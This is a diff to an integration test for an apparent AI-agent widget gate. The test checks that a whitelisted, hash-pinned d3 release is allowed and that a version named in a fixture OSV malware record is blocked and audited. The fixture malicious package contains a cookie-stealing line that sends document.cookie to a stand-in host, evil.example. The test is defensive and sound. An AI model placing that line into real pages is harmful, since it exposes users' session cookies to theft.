@@ -1,4 +1,4 @@
-import { randomUUID } from "node:crypto";
+import { createHash, randomUUID } from "node:crypto";
 import { readdir, readFile } from "node:fs/promises";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
@@ -14,10 +14,25 @@ import {
   type MockModel,
 } from "../helpers/mock-model.js";
 import { startNpmRegistry, type NpmRegistry } from "../helpers/npm-registry.js";
+import { startOsvServer, type OsvRecord, type OsvServer } from "../helpers/osv-server.js";
 
 // One real gateway: a WS operator client that declares `inline-widgets` sends chat.send, the loopback mock model
 // answers with a show_widget call, and the plugin's before_tool_call gate decides it against a loopback npm registry.
 const D3_FILE = "!function(){window.d3={version:'7.9.0',select(){return this}}}();\n";
+// The SRI a browser checks, computed here from the bytes the registry serves (not by the code under test).
+const D3_SRI = `sha384-${createHash("sha384").update(D3_FILE).digest("base64")}`;
+// A later d3 release the loopback OSV API knows as malware: an OpenSSF malicious-packages (MAL-) record.
+const MALICIOUS_D3 = "7.9.1";
+const MAL_RECORD: OsvRecord = {
+  id: "MAL-2099-8",
+  summary: "Malicious code in d3 7.9.1 (test fixture)",
+  affected: [
+    {
+      package: { ecosystem: "npm", name: "d3" },
+      ranges: [{ type: "SEMVER", events: [{ introduced: MALICIOUS_D3 }, { fixed: "7.9.2" }] }],
+    },
+  ],
+};
 const JSDELIVR = "https://cdn.jsdelivr.net/npm";
 const SHOW_WIDGET_ID = "openclaw:core:show_widget";
 const FONT = "https://fonts.googleapis.com/css2?family=Inter";
@@ -32,9 +47,12 @@ const TURNS = {
   loader:
     `<div id="c"></div><script>const s = document.createElement("script"); s.src = u; document.head.append(s)` +
     "</script>",
+  pinned: widget(`${JSDELIVR}/d3@7.9.0/dist/d3.min.js`),
+  malicious: widget(`${JSDELIVR}/d3@${MALICIOUS_D3}/dist/d3.min.js`),
 } as const;
 
 let registry: NpmRegistry;
+let osv: OsvServer;
 let model: MockModel;
 let gateway: Gateway;
 let client: GatewayClient;
@@ -43,9 +61,15 @@ beforeAll(async () => {
   registry = await startNpmRegistry({
     packages: [
       { name: "d3", version: "7.9.0", files: { "dist/d3.min.js": D3_FILE } },
+      {
+        name: "d3",
+        version: MALICIOUS_D3,
+        files: { "dist/d3.min.js": "fetch('https://evil.example/'+document.cookie)\n" },
+      },
       { name: "left-pad", version: "1.3.0" },
     ],
   });
+  osv = await startOsvServer([MAL_RECORD]);
   model = await startMockModel(
     toolThenText(
       Object.fromEntries(
@@ -65,7 +89,11 @@ beforeAll(async () => {
   gateway = await startGateway({
     agents: ["main"],
     pluginConfig: {
+      // d3 is listed for intern agents (the agent's maturity), with a range holding both the clean and the bad release.
+      agents: { main: "intern" },
+      whitelist: { tiers: { intern: [{ package: "d3", ecosystem: "npm", version: "^7.9.0", category: "charts" }] } },
       widgets: { registry: registry.url },
+      scan: { osvApiUrl: osv.baseUrl },
     },
     extraConfig: mockModelConfig(model),
   });
@@ -76,6 +104,7 @@ afterAll(async () => {
   await gateway?.stop();
   await model?.close();
   await registry?.close();
+  await osv?.close();
 });
 
 /** One chat turn from the inline-widgets client; resolves with the show_widget result the model was given. */
@@ -144,14 +173,42 @@ describe("show_widget through the widget gate on a real gateway", () => {
     expect(result).toContain('createElement(\\"script\\"): write the <script> tag in widget_code');
   });
 
+  it("allows d3@7.9.0, whitelisted at the agent's maturity, bound to the registry file's SRI hash", async () => {
+    const result = await turn("pinned");
+    expect(result).not.toContain("package-guard refused");
+    const tag = `<script src="${JSDELIVR}/d3@7.9.0/dist/d3.min.js" integrity="${D3_SRI}" crossorigin="anonymous">`;
+    expect((await storedDocuments()).some((d) => d.includes(tag))).toBe(true);
+    // The version was scanned against the loopback OSV API (clean there).
+    expect(osv.queries).toContainEqual({ package: { name: "d3", ecosystem: "npm" }, version: "7.9.0" });
+  });
+
+  it("blocks the same library at a version an OSV MAL- record names, with MALICIOUS", async () => {
+    const before = (await storedDocuments()).length;
+    const result = await turn("malicious");
+    expect(result).toContain("package-guard refused this widget");
+    expect(result).toContain("[MALICIOUS]");
+    expect(result).toContain("MAL-2099-8");
+    expect(await storedDocuments()).toHaveLength(before);
+  });
+
   it("audits each decision with source widget", async () => {
     const records = await widgetRecords();
-    expect(records.map((r) => [r.package, r.version, r.status, r.code])).toEqual([
-      [null, null, "vetted", null],
-      ["d3", null, "blocked", "INVALID_REQUIREMENT"],
-      ["left-pad", "1.3.0", "blocked", "NOT_WHITELISTED"],
-      [null, null, "blocked", "INVALID_REQUIREMENT"],
+    expect(records.map((r) => [r.ecosystem, r.package, r.version, r.status, r.code])).toEqual([
+      [null, null, null, "vetted", null],
+      ["npm", "d3", null, "blocked", "INVALID_REQUIREMENT"],
+      ["npm", "left-pad", "1.3.0", "blocked", "NOT_WHITELISTED"],
+      [null, null, null, "blocked", "INVALID_REQUIREMENT"],
+      ["npm", "d3", "7.9.0", "vetted", null],
+      ["npm", "d3", MALICIOUS_D3, "blocked", "MALICIOUS"],
     ]);
+    const [allowed, malicious] = records.slice(4);
+    expect(allowed!.details).toMatchObject({
+      purl: "pkg:npm/d3@7.9.0",
+      widget: "allowed",
+      files: [{ url: `${JSDELIVR}/d3@7.9.0/dist/d3.min.js`, integrity: D3_SRI }],
+    });
+    expect(malicious!.details).toMatchObject({ purl: `pkg:npm/d3@${MALICIOUS_D3}`, widget: "blocked" });
+    expect(malicious!.reason).toContain("MAL-2099-8");
     expect(records.every((r) => r.agentId === "main" && r.client?.startsWith("show_widget"))).toBe(true);
   });
 });
